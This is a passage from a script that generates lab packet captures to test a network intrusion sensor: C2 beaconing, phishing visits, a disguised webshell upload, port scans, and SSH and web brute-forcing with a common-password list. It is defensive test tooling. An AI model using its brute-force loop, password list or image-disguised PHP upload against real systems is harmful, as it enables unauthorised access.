              1qaz2wsx matkhau Matkhau@123 congthongtin 111111 Tinh@2024 admin2024 000000 iloveyou letmein)

scenario_bruteforce() {
  local c
  for c in "${BRUTE_CREDS[@]}"; do
    net env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force HD_PW="${c#*:}" \
      ssh -F /dev/null -b "$ATK_IP" -o BatchMode=no -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o GlobalKnownHostsFile=/dev/null -o ConnectTimeout=5 \
        -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
        -o KexAlgorithms=curve25519-sha256 -o HostKeyAlgorithms=ssh-ed25519 -o Ciphers=aes128-ctr \
        -o MACs=hmac-sha2-256 "${c%%:*}@$H20" true </dev/null >>"$WORK/ssh-client.log" 2>&1 || true
    gap 0.1
  done
  gap 1
  local pw
  for pw in "${BRUTE_WEB_PW[@]}"; do
    net curl -sS -o /dev/null --max-time 5 --interface "$ATK_IP" -A "$UA_BRUTE" \
        --resolve "$PORTAL_HOST:80:$H20" --data-urlencode "username=admin" --data-urlencode "password=$pw" \
        "http://$PORTAL_HOST/login" >>"$WORK/client.log" 2>&1 || true
    gap 0.1
  done
}

scenario_dns-tunnel() {
  h11 "$PY" "$WORK/tunnel.py" "$DNS_IP" "$TUN_DOMAIN" 200 0.03 >>"$WORK/tunnel.log"
  gap 1
  local d
  while read -r d; do q "$NS_H11" A "$d"; gap 0.1; done <"$WORK/dga.txt"
}

# ---------------------------------------------------------------- main
CAPTURES=(c2-beacon two-hosts allowlisted webshell download portscan bruteforce dns-tunnel)
# 64 TCP ports (a "top ports" list), in scan order
SCAN_PORTS=21,22,23,25,53,80,81,88,110,111,135,139,143,389,443,445,465,502,587,593,636,873,993,995,1025,1080,1433,1521,1723,1883,2049,2082,2083,2181,2375,3000,3128,3306,3389,4443,5000,5060,5432,5601,5900,5985,6379,7001,8000,8008,8080,8081,8088,8443,8888,9000,9090,9200,9300,10000,11211,27017,50000,50070
BOUNDARY=----WebKitFormBoundaryHdLab7MA4YWxk

log "work dir $WORK, output $OUT"
[ -r "$DGA_SOURCE" ] || { echo "make-detect-captures.sh: DGA list $DGA_SOURCE not readable (set HD_DGA_CSV)" >&2; exit 1; }
# the first 20 names of the nDPI DGA test list whose first label has 12+ characters and 3.5+ bits/char of entropy
"$PY" - "$DGA_SOURCE" >"$WORK/dga.txt" <<'EOF'
import collections, math, sys
def entropy(s):
    c = collections.Counter(s)
    return -sum(v / len(s) * math.log2(v / len(s)) for v in c.values())
n = 0
for line in open(sys.argv[1]):
    name = line.strip().split(",")[0].lower()
    label = name.split(".")[0]
    if len(label) >= 12 and entropy(label) >= 3.5:
        print(name)
        n += 1
        if n == 20:
            break
EOF
[ "$(wc -l <"$WORK/dga.txt")" = 20 ] || { echo "make-detect-captures.sh: could not take 20 DGA names" >&2; exit 1; }
write_helpers
"$PY" - "$WORK/samples/cmd.php" "$WORK/upload.body" "$BOUNDARY" <<'EOF'
# multipart/form-data body of the upload (fixed boundary, so it is the same every run)
import sys
shell, out, b = open(sys.argv[1], "rb").read(), sys.argv[2], sys.argv[3].encode()
body = (b"--" + b + b'\r\nContent-Disposition: form-data; name="MAX_FILE_SIZE"\r\n\r\n2097152\r\n'
        + b"--" + b + b'\r\nContent-Disposition: form-data; name="anh"; filename="anh-dai-dien.php"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + shell + b"\r\n"
        + b"--" + b + b'\r\nContent-Disposition: form-data; name="submit"\r\n\r\nT\xe1\xba\xa3i l\xc3\xaan\r\n'
        + b"--" + b + b"--\r\n")
open(out, "wb").write(body)
EOF
setup_netns
make_certs
start_servers
STAGE="$WORK/out"; mkdir -p "$STAGE/rules/ioc" "$STAGE/rules/allow" "$STAGE/samples"

for c in "${CAPTURES[@]}"; do
  log "capturing $c"
  cap_start "$c.pcap"
  "scenario_$c"
  cap_stop
  cp "$WORK/$c.pcap" "$STAGE/$c.pcap"
done
cp "$WORK/samples/cmd.php" "$WORK/samples/b64.php" "$STAGE/samples/"
grep -E 'Failed password|not allowed' "$WORK/sshd.log" >"$WORK/sshd-fail.log" || true

cat >"$WORK/facts.py" <<'FACTS_EOF'
# Read every capture back with tshark, check the facts the tests rely on, write
# rules/ioc/test.csv, rules/allow/test.csv and README.md from what tshark reports.
import collections, datetime, gzip, hashlib, math, os, platform, re, struct, subprocess, sys

STAGE, WORK = sys.argv[1], sys.argv[2]
E = os.environ
FAILED = []
SIZE_LIMIT = 200 * 1024


def check(cond, msg):
    if not cond:
        FAILED.append(msg)
    return cond


def run(*cmd):
    r = subprocess.run(cmd, capture_output=True, text=True)
    return r.returncode, r.stdout, r.stderr


def fields(path, flt, names):
    args = ["tshark", "-n", "-r", path, "-T", "fields", "-E", "separator=\t", "-E", "aggregator=,",
            "-E", "occurrence=a"]
    if flt:
        args += ["-Y", flt]
    for n in names:
        args += ["-e", n]
    rc, out, err = run(*args)
    if "aren't valid" in err or "isn't a valid" in err or "was unexpected" in err:
        raise SystemExit("tshark rejected a field or filter: %s %s\n%s" % (flt, names, err))
    rows = []
    for line in out.splitlines():
        parts = line.split("\t")
        parts += [""] * (len(names) - len(parts))
        rows.append(dict(zip(names, parts)))
    return rows


def md(s):
    return str(s).replace("|", "\\|")


def table(head, rows):
    out = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
    out += ["| " + " | ".join(md(c) for c in r) + " |" for r in rows]
    return "\n".join(out)


def code(s):
    return "`%s`" % s


def follow(path, stream):
    """Reassembled payload of one TCP stream: (client->server bytes, server->client bytes)."""
    rc, out, err = run("tshark", "-n", "-r", path, "-q", "-z", "follow,tcp,raw,%d" % stream)
    c, s, started = [], [], False
    for line in out.splitlines():
        if line.startswith("Node 1:"):
            started = True
            continue
        if not started or line.startswith("====") or not line.strip():
            continue
        (s if line.startswith("\t") else c).append(bytes.fromhex(line.strip()))
    return b"".join(c), b"".join(s)


def http_messages(data):
    """Split one direction of an HTTP/1.x stream into (start line, headers, decoded body, wire body length, framing)."""
    msgs = []
    while data:
        end = data.find(b"\r\n\r\n")
        if end < 0:
            break
        head = data[:end].decode("latin-1").split("\r\n")
        hdr = {}
        for h in head[1:]:
            k, _, v = h.partition(":")
            hdr[k.strip().lower()] = v.strip()
        rest = data[end + 4:]
        if "chunked" in hdr.get("transfer-encoding", "").lower():
            body, off, framing = b"", 0, "chunked"
            while True:
                eol = rest.find(b"\r\n", off)
                size = int(rest[off:eol].split(b";")[0], 16)
                off = eol + 2
                if size == 0:
                    off = rest.find(b"\r\n", off) + 2
                    break
                body += rest[off:off + size]
                off += size + 2
            wire = off
        elif "content-length" in hdr:
            n = int(hdr["content-length"])
            body, wire, framing = rest[:n], n, "Content-Length %d" % n
        else:
            body, wire, framing = rest, len(rest), "until close"
        decoded = gzip.decompress(body) if hdr.get("content-encoding", "").lower() == "gzip" else body
        msgs.append({"start": head[0], "hdr": hdr, "body": decoded, "wire": wire, "framing": framing})
        data = rest[wire:]
    return msgs


def ts(x):
    return datetime.datetime.fromtimestamp(float(x), datetime.timezone.utc).strftime("%H:%M:%S.%f")


def entropy(s):
    c = collections.Counter(s)
    return -sum(v / len(s) * math.log2(v / len(s)) for v in c.values())


def summary(name):
    path = os.path.join(STAGE, name)
    fr = fields(path, "", ["frame.number", "frame.len", "frame.cap_len", "frame.time_epoch", "tcp.stream",
                           "udp.stream", "icmp.type", "arp.opcode", "frame.protocols"])
    streams = {"tcp": {r["tcp.stream"] for r in fr if r["tcp.stream"]},
               "udp": {r["udp.stream"] for r in fr if r["udp.stream"]}}
    other = [r for r in fr if not r["tcp.stream"] and not r["udp.stream"]]
    check(all(r["frame.len"] == r["frame.cap_len"] for r in fr), "%s: caplen != len" % name)
    check(max(int(r["frame.len"]) for r in fr) <= 1514, "%s: a frame is longer than 1514 bytes" % name)
    check(not other, "%s: %d frames that are neither TCP nor UDP (ARP, ICMP, ...)" % (name, len(other)))
    check(os.path.getsize(path) < SIZE_LIMIT, "%s is %d bytes (limit 200 KB)" % (name, os.path.getsize(path)))
    t = [float(r["frame.time_epoch"]) for r in fr]
    rc, out, err = run("tshark", "-n", "-r", path, "-q", "-z", "io,phs")
    nodes, stack = [], []
    for line in out.splitlines():
        m = re.match(r"^( *)(\S+)\s+frames:(\d+)", line)
        if m:
            depth = len(m.group(1)) // 2
            stack = stack[:depth] + [m.group(2)]
            nodes.append((depth, ":".join(stack), int(m.group(3))))
    leaves = ["`%s` %d" % (p, n) for i, (d, p, n) in enumerate(nodes)
              if i + 1 == len(nodes) or nodes[i + 1][0] <= d]
    return {"path": path, "name": name, "size": os.path.getsize(path), "packets": len(fr),
            "tcp": len(streams["tcp"]), "udp": len(streams["udp"]), "other": len(other),
            "first": min(t), "last": max(t), "phs": leaves}


def head_lines(s, extra=""):
    first = datetime.datetime.fromtimestamp(s["first"], datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f")
    return ("- file: `%s`, %d bytes, classic pcap, link type 1 (Ethernet), captured on `br-lan` of the router\n"
            "- packets: **%d**, from %s UTC, lasting %.3f s\n"
            "- flows (tcp.stream / udp.stream, both directions = one flow): **TCP %d, UDP %d**; other frames: %d%s\n"
            "- protocol paths (`tshark -q -z io,phs` leaves, frames): %s") % (
        s["name"], s["size"], s["packets"], first, s["last"] - s["first"], s["tcp"], s["udp"], s["other"], extra,
        ", ".join(s["phs"]))


def dns_rows(path, flt=""):
    q = fields(path, "dns.flags.response == 0" + (" && " + flt if flt else ""),
               ["frame.number", "frame.time_epoch", "ip.src", "ip.dst", "udp.stream", "dns.id", "dns.qry.name",
                "dns.qry.type"])
    r = fields(path, "dns.flags.response == 1" + (" && " + flt if flt else ""),
               ["frame.number", "udp.stream", "dns.id", "dns.qry.name", "dns.flags.rcode", "dns.a", "dns.txt"])
    resp = {(x["udp.stream"], x["dns.id"], x["dns.qry.name"]): x for x in r}
    for x in q:
        x["resp"] = resp.get((x["udp.stream"], x["dns.id"], x["dns.qry.name"]))
    return q, r


QTYPE = {"1": "A", "16": "TXT", "28": "AAAA"}
RCODE = {"0": "NOERROR", "2": "SERVFAIL", "3": "NXDOMAIN", "5": "REFUSED"}


def dns_table(qs):
    rows = []
    for x in qs:
        r = x["resp"] or {}
        rows.append([x["frame.number"], ts(x["frame.time_epoch"]), x["ip.src"], x["dns.qry.name"],
                     QTYPE.get(x["dns.qry.type"], x["dns.qry.type"]), r.get("frame.number", "-"),
                     RCODE.get(r.get("dns.flags.rcode"), r.get("dns.flags.rcode", "no response")),
                     r.get("dns.a") or "-"])
    return table(["query frame", "time (UTC)", "host", "qname", "qtype", "response frame", "rcode", "A"], rows)


def http_rows(path):
    req = fields(path, "http.request", ["frame.number", "frame.time_epoch", "tcp.stream", "ip.src", "ip.dst",
                                         "tcp.dstport", "http.request.method", "http.host", "http.request.uri",
                                         "http.user_agent", "http.content_type", "http.content_length_header"])
    rsp = fields(path, "http.response", ["frame.number", "tcp.stream", "http.response.code", "http.content_type",
                                          "http.content_length_header", "http.transfer_encoding",
                                          "http.content_encoding", "http.request_in"])
    by_req = {x["http.request_in"]: x for x in rsp}
    for x in req:
        x["resp"] = by_req.get(x["frame.number"], {})
    return req


def http_table(reqs):
    rows = []
    for x in reqs:
        r = x["resp"]
        rows.append([x["frame.number"], ts(x["frame.time_epoch"]), x["tcp.stream"],
                     "%s -> %s:%s" % (x["ip.src"], x["ip.dst"], x["tcp.dstport"]), x["http.request.method"],
                     x["http.host"], x["http.request.uri"], x["http.user_agent"],
                     r.get("frame.number", "-"), r.get("http.response.code", "-"), r.get("http.content_type", "-")])
    return table(["req frame", "time (UTC)", "tcp.stream", "client -> server", "method", "Host", "URI",
                  "User-Agent", "resp frame", "status", "Content-Type"], rows)


versions = {}
for key, cmd in [("tcpdump", ["tcpdump", "--version"]), ("tshark", ["tshark", "--version"]),
                 ("dnsmasq", ["dnsmasq", "--version"]), ("curl", ["curl", "--version"]),
                 ("openssl", ["openssl", "version"]), ("ssh", ["ssh", "-V"]), ("dig", ["dig", "-v"]),
                 ("python", [sys.executable, "--version"])]:
    rc, out, err = run(*cmd)
    versions[key] = (out or err).splitlines()[0].strip()

S, SECTIONS, EXPECT = {}, [], []
for n in ["c2-beacon", "two-hosts", "allowlisted", "webshell", "download", "portscan", "bruteforce", "dns-tunnel"]:
    S[n] = summary(n + ".pcap")

# ------------------------------------------------------------------ c2-beacon
p = S["c2-beacon"]["path"]
C2D, C2IP, N = E["C2_DOMAIN"], E["C2_IP"], int(E["BEACONS"])
qs, _ = dns_rows(p)
ch = fields(p, "tls.handshake.type == 1", ["frame.number", "frame.time_epoch", "tcp.stream", "ip.src", "ip.dst",
                                            "tls.handshake.extensions_server_name", "tls.handshake.ja3",
                                            "tls.handshake.ja3_full", "tls.handshake.version"])
sh = {x["tcp.stream"]: x for x in fields(p, "tls.handshake.type == 2", [
    "tcp.stream", "tls.handshake.ja3s", "tls.handshake.ja3s_full", "tls.handshake.ciphersuite"])}
certs = {}
for x in fields(p, "tls.handshake.certificate", ["tcp.stream", "tls.handshake.certificate"]):
    der = bytes.fromhex(x["tls.handshake.certificate"].split(",")[0].replace(":", ""))
    certs[x["tcp.stream"]] = hashlib.sha1(der).hexdigest()
rc, out, err = run("openssl", "x509", "-in", os.path.join(WORK, "pki", "c2.crt"), "-noout", "-fingerprint",
                   "-sha1", "-subject", "-issuer", "-serial", "-startdate", "-enddate")
cert_sha1_file = re.search(r"Fingerprint=([0-9A-F:]+)", out).group(1).replace(":", "").lower()
cert_info = dict(re.findall(r"^(subject|issuer|serial|notBefore|notAfter)=\s*(.*)$", out, re.M))
syns = fields(p, "tcp.flags.syn == 1 && tcp.flags.ack == 0", ["frame.time_epoch", "ip.src", "ip.dst", "tcp.stream"])
c2q = [x for x in qs if x["dns.qry.name"] == C2D]
check(len(c2q) == N and all(x["ip.src"] == "10.88.0.10" for x in c2q), "c2-beacon: %d DNS queries for %s" % (len(c2q), C2D))
check(all(x["resp"] and x["resp"]["dns.a"] == C2IP for x in c2q), "c2-beacon: a DNS answer is not %s" % C2IP)
check(len(ch) == N and all(x["tls.handshake.extensions_server_name"] == C2D and x["ip.dst"] == C2IP
                           and x["ip.src"] == "10.88.0.10" for x in ch), "c2-beacon: ClientHellos %d" % len(ch))
ja3s = {x["tls.handshake.ja3"] for x in ch}
check(len(ja3s) == 1, "c2-beacon: JA3 differs between beacons: %s" % ja3s)
JA3 = ja3s.pop() if len(ja3s) == 1 else ""
JA3_FULL = ch[0]["tls.handshake.ja3_full"] if ch else ""
check(len(certs) == N and set(certs.values()) == {cert_sha1_file}, "c2-beacon: certificate SHA-1 %s vs file %s" % (
    set(certs.values()), cert_sha1_file))
check(S["c2-beacon"]["tcp"] == N, "c2-beacon: %d TCP flows" % S["c2-beacon"]["tcp"])
st = sorted(float(x["frame.time_epoch"]) for x in syns if x["ip.dst"] == C2IP)
iv = [b - a for a, b in zip(st, st[1:])]
qt = sorted(float(x["frame.time_epoch"]) for x in c2q)
qiv = [b - a for a, b in zip(qt, qt[1:])]
mean = sum(iv) / len(iv) if iv else 0
dev = max(abs(i - mean) / mean for i in iv) if iv else 0
check(iv and dev < 0.05, "c2-beacon: beacon intervals not regular: %s" % iv)
JA3S = sorted({x["tls.handshake.ja3s"] for x in sh.values()})
rows = []
for i, x in enumerate(ch):
    y = sh.get(x["tcp.stream"], {})
    rows.append([i + 1, c2q[i]["frame.number"] if i < len(c2q) else "-", x["frame.number"], ts(x["frame.time_epoch"]),
                 x["tcp.stream"], "%s -> %s:443" % (x["ip.src"], x["ip.dst"]), x["tls.handshake.extensions_server_name"],
                 y.get("tls.handshake.ciphersuite", "-"), certs.get(x["tcp.stream"], "-")])
SECTIONS.append("\n\n".join([
    "### c2-beacon.pcap - a workstation beaconing to its C2 server",
    head_lines(S["c2-beacon"]),
    "Host **10.88.0.10** runs a small \"implant\" (`beacon.py` in the script): %d times, on a fixed schedule every "
    "%s s, it resolves `%s` with dig at the resolver %s (answer `A %s`, TTL 60) and then fetches `/beacon` over "
    "HTTPS from that address with curl (TLS 1.2 only, cipher list `%s`, curves `%s`, no ALPN, User-Agent `%s` - "
    "inside TLS, not visible). The server is `openssl s_server -WWW` with a self-signed RSA-2048 certificate. The "
    "key is derived from a fixed seed and the certificate is signed with fixed serial and dates, so the certificate "
    "and its SHA-1 are **the same on every run**; the JA3 is stable as long as curl/OpenSSL are. No other traffic." % (
        N, E["BEACON_INTERVAL"], C2D, E["DNS_IP"], C2IP, E["C2_CIPHERS"], E["C2_CURVES"], E["UA_C2"]),
    "- C2 domain: `%s`; C2 IP: `%s`; SNI in every ClientHello: `%s`\n"
    "- certificate: subject `%s`, issuer `%s` (self-signed), serial `%s`, valid `%s` .. `%s`\n"
    "- certificate SHA-1 (of the DER the server sends, in clear in TLS 1.2): **`%s`** (colon form `%s`)\n"
    "- client JA3 (all %d ClientHellos): **`%s`**; JA3 string `%s`\n"
    "- server JA3S: `%s` (that of any OpenSSL 3.0 server choosing 0xc030 - not an indicator)\n"
    "- interval between the beacons' TCP SYNs: mean %.3f s, min %.3f s, max %.3f s, largest deviation from the mean "
    "%.1f %%; between the DNS queries: min %.3f s, max %.3f s\n"
    "- first beacon %s, last %s UTC (%.3f s apart)" % (
        C2D, C2IP, C2D, cert_info.get("subject"), cert_info.get("issuer"), cert_info.get("serial"),
        cert_info.get("notBefore"), cert_info.get("notAfter"), cert_sha1_file,
        ":".join(cert_sha1_file[i:i + 2] for i in range(0, 40, 2)).upper(), len(ch), JA3, JA3_FULL,
        ", ".join(JA3S), mean, min(iv or [0]), max(iv or [0]), dev * 100, min(qiv or [0]), max(qiv or [0]),
        ts(qt[0]) if qt else "-", ts(st[-1]) if st else "-", (st[-1] - qt[0]) if st and qt else 0),
    table(["beacon", "DNS query frame", "ClientHello frame", "time (UTC)", "tcp.stream", "client -> server", "SNI",
           "cipher", "certificate SHA-1"], rows),
    "Signals a correct sensor raises, all for host 10.88.0.10: %d DNS queries matching the domain indicator, %d TLS "
    "SNIs matching the domain indicator, %d TCP flows to the IP indicator, %d certificates matching the cert_sha1 "
    "indicator and %d ClientHellos matching the ja3 indicator (all from source `haidang-test-c2`), plus a beaconing "
    "behaviour signal (%d connections to %s:443 at regular intervals). **Expected: one incident** for 10.88.0.10 "
    "(indicator/rule: the C2, `%s` / `%s`; category `c2`) with **count %d** (beacons), not one incident per signal "
    "type." % (len(c2q), len(ch), S["c2-beacon"]["tcp"], len(certs), len(ch), len(st), C2IP, C2D, C2IP, N)]))
EXPECT.append(["c2-beacon.pcap", "10.88.0.10", "C2 `%s` / `%s` (domain + ip + cert_sha1 + ja3, source "
               "haidang-test-c2; plus beaconing)" % (C2D, C2IP), str(N), "c2", "1"])

# ------------------------------------------------------------------ two-hosts
p = S["two-hosts"]["path"]
PD, PIP = E["PHISH_DOMAIN"], E["PHISH_IP"]
qs, _ = dns_rows(p)
reqs = http_rows(p)
for h in ("10.88.0.10", "10.88.0.11"):
    check(sum(1 for x in qs if x["ip.src"] == h and x["dns.qry.name"] == PD) == 1, "two-hosts: DNS from %s" % h)
    check(sum(1 for x in reqs if x["ip.src"] == h and x["http.host"] == PD and x["ip.dst"] == PIP) == 1,
          "two-hosts: HTTP from %s" % h)
check(len(qs) == 2 and len(reqs) == 2, "two-hosts: %d queries, %d requests" % (len(qs), len(reqs)))
SECTIONS.append("\n\n".join([
    "### two-hosts.pcap - two workstations visit the same phishing site",
    head_lines(S["two-hosts"]),
    "First 10.88.0.10, then (about 1 s later) 10.88.0.11: each resolves `%s` (`A %s`) and opens "
    "`http://%s/dang-nhap` with a Chrome User-Agent (a credential-phishing page, 200). Only the domain is in "
    "the indicator list (the IP is not, so that every reading of \"per indicator\" gives the same answer)." % (
        PD, PIP, PD),
    dns_table(qs), http_table(reqs),
    "**Expected: two incidents**, one for 10.88.0.10 and one for 10.88.0.11, both indicator `%s` (domain, source "
    "`haidang-test-phish`), category `phishing`, count **1** each (one contact: one DNS query and one HTTP request "
    "whose Host is the domain)." % PD]))
EXPECT.append(["two-hosts.pcap", "10.88.0.10", "domain `%s`" % PD, "1", "phishing", "1"])
EXPECT.append(["two-hosts.pcap", "10.88.0.11", "domain `%s`" % PD, "1", "phishing", "1"])

# ------------------------------------------------------------------ allowlisted
p = S["allowlisted"]["path"]
VD = E["VENDOR_DOMAIN"]
qs, _ = dns_rows(p)
reqs = http_rows(p)
check(len(qs) == 1 and qs[0]["dns.qry.name"] == VD and len(reqs) == 1 and reqs[0]["http.host"] == VD,
      "allowlisted: expected 1 DNS query and 1 HTTP request for %s" % VD)
SECTIONS.append("\n\n".join([
    "### allowlisted.pcap - an indicator that the allow list overrides",
    head_lines(S["allowlisted"]),
    "Host 10.88.0.10 resolves `%s` (`A %s`) and fetches `/updates/manifest.json` (a vendor's update manifest, "
    "User-Agent `VendorAV-Updater/24.9`). The domain is in `rules/ioc/test.csv` (a feed's false positive, source "
    "`haidang-test-feed`, severity medium) **and** in `rules/allow/test.csv`." % (VD, E["VENDOR_IP"]),
    dns_table(qs), http_table(reqs),
    "**Expected: no incident** (the DNS query and the HTTP Host both hit the indicator, and the allow-list entry "
    "covers it; a sensor may count or log the suppressed hits, but must not raise or score them)."]))
EXPECT.append(["allowlisted.pcap", "-", "domain `%s` (indicator and allow list)" % VD, "0", "-", "**0**"])

# ------------------------------------------------------------------ webshell
p = S["webshell"]["path"]
samples = {n: open(os.path.join(STAGE, "samples", n), "rb").read() for n in ("cmd.php", "b64.php")}
reqs = http_rows(p)
rows, found = [], collections.defaultdict(list)
for x in reqs:
    c, s = follow(p, int(x["tcp.stream"]))
    for n, data in samples.items():
        if data in c:
            found[n].append((x["tcp.stream"], "client -> server (request body)"))
        if data in s:
            found[n].append((x["tcp.stream"], "server -> client (response body)"))
    cm, sm = http_messages(c), http_messages(s)
    rows.append([x["frame.number"], x["tcp.stream"], "%s -> %s:%s" % (x["ip.src"], x["ip.dst"], x["tcp.dstport"]),
                 x["http.request.method"], x["http.host"], x["http.request.uri"], x["http.user_agent"],
                 "%s, %d bytes" % (x["http.content_type"] or "-", len(cm[0]["body"])) if cm else "-",
                 x["resp"].get("http.response.code", "-"),
                 "%s, %s" % (x["resp"].get("http.content_type", "-"), sm[0]["framing"]) if sm else "-"])
check(len(reqs) == 3, "webshell: %d HTTP requests" % len(reqs))
# which of the repository's YARA rules match the samples (if yara(1) and rules/yara/ are there)
yara_dir, yara_hits = E.get("RULES_YARA", ""), None
if yara_dir and os.path.isdir(yara_dir) and subprocess.run(["sh", "-c", "command -v yara"],
                                                            capture_output=True).returncode == 0:
    rfiles = sorted(os.path.join(dp, f) for dp, _, fs in os.walk(yara_dir) for f in fs if f.endswith((".yar", ".yara")))
    yara_hits = {}
    for n in samples:
        rc, out, err = run("yara", "-w", *rfiles, os.path.join(STAGE, "samples", n))
        yara_hits[n] = [l.split()[0] for l in out.splitlines() if l.strip()] if rc == 0 else ["(yara failed: %s)" % err.strip()[:100]]
    yara_text = ("With the repository's `rules/yara/` as it stood when this was generated (`yara -w <every .yar> "
                 "samples/FILE`, yara %s): %s." % (run("yara", "--version")[1].strip(), "; ".join(
                     "`%s` matches %s" % (n, ", ".join("`%s`" % r for r in h) or "nothing") for n, h in yara_hits.items())))
else:
    yara_text = "yara(1) or rules/yara/ was not available when this was generated, so no rule was tried."
check(len(found["cmd.php"]) == 2 and len(found["b64.php"]) == 1, "webshell: sample bytes found %s" % dict(found))
SECTIONS.append("\n\n".join([
    "### webshell.pcap - webshells downloaded and uploaded",
    head_lines(S["webshell"]),
    "1. Host 10.88.0.10 downloads two PHP webshells from an attacker's staging server %s with User-Agent `Wget/1.21.3` "
    "(`GET /tools/cmd.php`, `GET /tools/b64.php`; replies with Content-Length, `application/x-httpd-php`).\n"
    "2. The attacker %s uploads `cmd.php`, renamed `anh-dai-dien.php` (\"avatar\") and declared as `image/jpeg`, to the "
    "agency portal 10.88.0.20 (`POST /upload.php`, Host `%s`, multipart/form-data with the fixed boundary "
    "`----WebKitFormBoundaryHdLab7MA4YWxk`, so the request is byte-identical every run); the portal answers 200." % (
        E["STAGE_IP"], E["ATK_IP"], E["PORTAL_HOST"]),
    table(["req frame", "tcp.stream", "client -> server", "method", "Host", "URI", "User-Agent",
           "request body", "status", "response body"], rows),
    "The webshell texts are in `samples/` (byte-identical to what is on the wire; inert text, nothing here runs PHP):\n\n"
    + "\n".join("- `samples/%s`, %d bytes, sha256 `%s`, found in: %s\n\n```php\n%s```" % (
        n, len(d), hashlib.sha256(d).hexdigest(),
        "; ".join("tcp.stream %s %s" % f for f in found[n]), d.decode()) for n, d in samples.items()),
    yara_text,
    "**Expected** (YARA over HTTP bodies and reassembled TCP streams): for host **10.88.0.10** (peer %s) one "
    "incident per rule that matches cmd.php or b64.php, category `webshell`, count 1 each (each text is downloaded "
    "once); for host **10.88.0.20** (the portal; peer %s) one incident per rule that matches cmd.php, category "
    "`webshell`, count 1 (the upload).%s" % (E["STAGE_IP"], E["ATK_IP"], (
        " With the rules above that is %d incidents for 10.88.0.10 (%s) and %d for 10.88.0.20 (%s)." % (
            len(set(yara_hits["cmd.php"]) | set(yara_hits["b64.php"])),
            ", ".join(sorted(set(yara_hits["cmd.php"]) | set(yara_hits["b64.php"]))),
            len(set(yara_hits["cmd.php"])), ", ".join(sorted(set(yara_hits["cmd.php"]))))) if yara_hits else "")]))
if yara_hits:
    for r in sorted(set(yara_hits["cmd.php"]) | set(yara_hits["b64.php"])):
        EXPECT.append(["webshell.pcap", "10.88.0.10", "YARA `%s` (GET %s)" % (r, ", ".join(
            n for n in ("cmd.php", "b64.php") if r in yara_hits[n])), "1", "webshell", "1"])
    for r in sorted(set(yara_hits["cmd.php"])):
        EXPECT.append(["webshell.pcap", "10.88.0.20", "YARA `%s` (POST /upload.php)" % r, "1", "webshell", "1"])
else:
    EXPECT.append(["webshell.pcap", "10.88.0.10", "YARA webshell rule(s) on the GET response bodies (cmd.php, b64.php)",
                   "1", "webshell", "1 per rule"])
    EXPECT.append(["webshell.pcap", "10.88.0.20", "YARA webshell rule(s) on the POST /upload.php body (cmd.php)", "1",
                   "webshell", "1 per rule"])

# ------------------------------------------------------------------ download
p = S["download"]["path"]
payload = open(os.path.join(WORK, "hoadon-0924.bin"), "rb").read()
H = {k: getattr(hashlib, k)(payload).hexdigest() for k in ("md5", "sha1", "sha256")}
qs, _ = dns_rows(p)
reqs = http_rows(p)
rows, ok = [], 0
for x in reqs:
    c, s = follow(p, int(x["tcp.stream"]))
    m = http_messages(s)[0]
    good = hashlib.sha256(m["body"]).hexdigest() == H["sha256"]
    ok += good
    rows.append([x["frame.number"], x["tcp.stream"], x["ip.src"], x["http.request.uri"],
                 x["resp"].get("http.response.code", "-"), m["framing"], m["hdr"].get("content-encoding", "-"),
                 m["wire"], len(m["body"]), hashlib.sha256(m["body"]).hexdigest()[:16] + "...",
                 "yes" if good else "NO"])
check(len(reqs) == 3 and ok == 3, "download: %d of %d bodies have the indicator sha256" % (ok, len(reqs)))
SECTIONS.append("\n\n".join([
    "### download.pcap - a file whose hash is an indicator, three ways",
    head_lines(S["download"]),
    "Host **10.88.0.11** resolves `%s` (`A %s`) and downloads the same 20000-byte file three times with a Chrome "
    "User-Agent, each on its own connection: with `Content-Length`; with `Transfer-Encoding: chunked` (4096-byte "
    "chunks); and with `Content-Encoding: gzip` (curl `--compressed`, gzip level 9, mtime 0, with Content-Length). "
    "The file is SHA-256 counter-mode output (looks random, harmless, the same every run)." % (E["DL_DOMAIN"], E["DL_IP"]),
    "- `hoadon-0924.bin`: 20000 bytes; md5 `%s`; sha1 `%s`; **sha256 `%s`** (only the sha256 is in the indicator list)" % (
        H["md5"], H["sha1"], H["sha256"]),
    dns_table(qs),
    table(["req frame", "tcp.stream", "host", "URI", "status", "framing", "Content-Encoding", "body bytes on the wire",
           "decoded bytes", "sha256 of decoded body", "= indicator"], rows),
    "**Expected: one incident** for host 10.88.0.11, indicator sha256 `%s` (source `haidang-test-malware`, category "
    "`malware`), **count 3** (one per download; the sensor must de-chunk and gunzip to see the 2nd and 3rd)." % H["sha256"]]))
EXPECT.append(["download.pcap", "10.88.0.11", "sha256 `%s...`" % H["sha256"][:16], "3", "malware", "1"])

# ------------------------------------------------------------------ portscan
p = S["portscan"]["path"]
SCAN = E["SCAN_IP"]
syn = fields(p, "tcp.flags.syn == 1 && tcp.flags.ack == 0", ["frame.time_epoch", "ip.src", "ip.dst", "tcp.dstport"])
synack = fields(p, "tcp.flags.syn == 1 && tcp.flags.ack == 1", ["ip.src", "tcp.srcport"])
rst = fields(p, "tcp.flags.reset == 1 && tcp.flags.ack == 1 && tcp.seq == 1 && tcp.len == 0", ["ip.src", "tcp.srcport"])
scan_syn = [x for x in syn if x["ip.dst"] == SCAN]
ports = [int(x["tcp.dstport"]) for x in scan_syn]
open_p = sorted({int(x["tcp.srcport"]) for x in synack if x["ip.src"] == SCAN})
sweep_syn = [x for x in syn if x["ip.dst"].startswith(E["SWEEP_NET"] + ".")]
sweep_addrs = sorted({x["ip.dst"] for x in sweep_syn}, key=lambda a: int(a.split(".")[-1]))
open_a = sorted({x["ip.src"] for x in synack if x["ip.src"].startswith(E["SWEEP_NET"] + ".")},
                key=lambda a: int(a.split(".")[-1]))
st1 = [float(x["frame.time_epoch"]) for x in scan_syn]
st2 = [float(x["frame.time_epoch"]) for x in sweep_syn]
want_ports = [int(x) for x in E["SCAN_PORTS"].split(",")]
check(ports == want_ports and all(x["ip.src"] == "10.88.0.10" for x in syn), "portscan: SYNs %s" % ports)
check(len(sweep_addrs) == int(E["SWEEP_LAST"]) - int(E["SWEEP_FIRST"]) + 1 and
